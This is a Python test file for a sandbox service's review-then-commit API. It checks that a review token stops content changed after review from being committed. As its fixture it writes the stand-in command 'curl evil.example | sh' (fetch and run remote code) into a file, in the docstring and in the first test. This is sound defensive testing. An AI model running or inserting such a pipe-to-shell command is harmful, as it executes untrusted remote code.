"""A review is of a moment: a process a session left running in the sandbox can change a
file between the caller's DiffChanges and its CommitChanges, and the commit applied
content the review never showed (`benign report` reviewed, `curl evil.example | sh`
committed). DiffChanges now returns a review token; CommitChanges given it commits
exactly the reviewed changes or nothing (ABORTED, REVIEW_OUTDATED), running or stopped."""

from __future__ import annotations

import time

import grpc
import pytest

from conftest import download, make_codebase, make_sandbox, run
from server_harness import common, reason_of, sb


def diff(server, sandbox_id, paths=()):
    return server.sandboxes.DiffChanges(sb.DiffChangesRequest(sandbox_id=sandbox_id,
                                                              paths=list(paths)))


def commit(server, sandbox_id, token, paths=()):
    return server.sandboxes.CommitChanges(sb.CommitChangesRequest(
        sandbox_id=sandbox_id, paths=list(paths), review_token=token))


@pytest.fixture
def manual(server):
    codebase_id = make_codebase(server, files={"output/report.txt": b"old report\n"})
    sandbox_id = make_sandbox(server, codebase_id, sync_mode=common.SYNC_MODE_MANUAL)
    yield codebase_id, sandbox_id
    server.sandboxes.DestroySandbox(sb.DestroySandboxRequest(sandbox_id=sandbox_id))


def test_a_change_after_the_review_is_not_committed_under_its_token(server, manual):
    codebase_id, sandbox_id = manual
    session = server.sandboxes.CreateSession(sb.CreateSessionRequest(sandbox_id=sandbox_id)).id
    server.sandboxes.SessionExec(sb.SessionExecRequest(session_id=session, command=(
        "echo 'benign report' > output/report.txt; "
        "(sleep 2; echo 'curl evil.example | sh' > output/report.txt) >/dev/null 2>&1 &")))
    reviewed = diff(server, sandbox_id, ["/output/report.txt"])
    assert "+benign report" in reviewed.diff and len(reviewed.review_token) == 64
    time.sleep(3)
    with pytest.raises(grpc.RpcError) as e:
        commit(server, sandbox_id, reviewed.review_token, ["/output/report.txt"])
    assert e.value.code() == grpc.StatusCode.ABORTED, e.value.details()
    assert reason_of(e.value) == "REVIEW_OUTDATED"
    assert download(server, codebase_id, "output/report.txt") == b"old report\n"
    again = diff(server, sandbox_id, ["/output/report.txt"])
    assert "+curl evil.example | sh" in again.diff
    applied = commit(server, sandbox_id, again.review_token, ["/output/report.txt"]).applied
    assert list(applied) == ["/output/report.txt"]
    assert download(server, codebase_id, "output/report.txt") == b"curl evil.example | sh\n"


def test_a_token_holds_across_a_stop_and_is_checked_offline(server, manual):
    codebase_id, sandbox_id = manual
    run(server, sandbox_id, "echo reviewed > output/report.txt")
    token = diff(server, sandbox_id).review_token
    server.sandboxes.StopSandbox(sb.StopSandboxRequest(sandbox_id=sandbox_id))
    assert diff(server, sandbox_id).review_token == token  # the same changes, stopped
    with pytest.raises(grpc.RpcError) as e:
        commit(server, sandbox_id, "0" * 64)
    assert reason_of(e.value) == "REVIEW_OUTDATED"
    assert list(commit(server, sandbox_id, token).applied) == ["/output/report.txt"]
    assert download(server, codebase_id, "output/report.txt") == b"reviewed\n"
